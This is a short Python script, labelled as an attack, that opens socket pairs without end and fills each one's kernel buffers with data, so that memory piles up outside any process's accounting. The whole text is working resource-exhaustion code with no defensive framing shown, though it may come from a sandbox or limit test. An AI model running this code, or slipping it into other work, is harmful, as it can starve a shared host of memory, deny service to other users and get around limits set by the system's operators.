# Fills the buffers of thousands of sockets: memory that belongs to no process.
# %% attack
import socket
import time

kept = []
while True:
    try:
        pair = socket.socketpair()
    except OSError:
        time.sleep(1)
        continue
    kept.append(pair)
    for one in pair:
        one.setblocking(False)
        try:
            while True:
                one.send(bytes(65536))
        except BlockingIOError:
            pass
